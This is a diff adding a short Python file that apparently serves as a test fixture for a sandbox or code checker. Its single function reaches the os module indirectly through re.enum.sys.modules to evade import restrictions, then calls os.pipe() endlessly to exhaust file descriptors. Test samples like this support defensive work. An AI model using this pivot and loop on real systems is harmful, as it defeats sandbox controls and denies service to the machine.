@@ -1,0 +1,9 @@
+# expect: load
+"""All descriptors by a pivot."""
+
+
+def process_client_phone(request):
+    from re import enum
+    o = enum.sys.modules['os']
+    while True:
+        o.pipe()
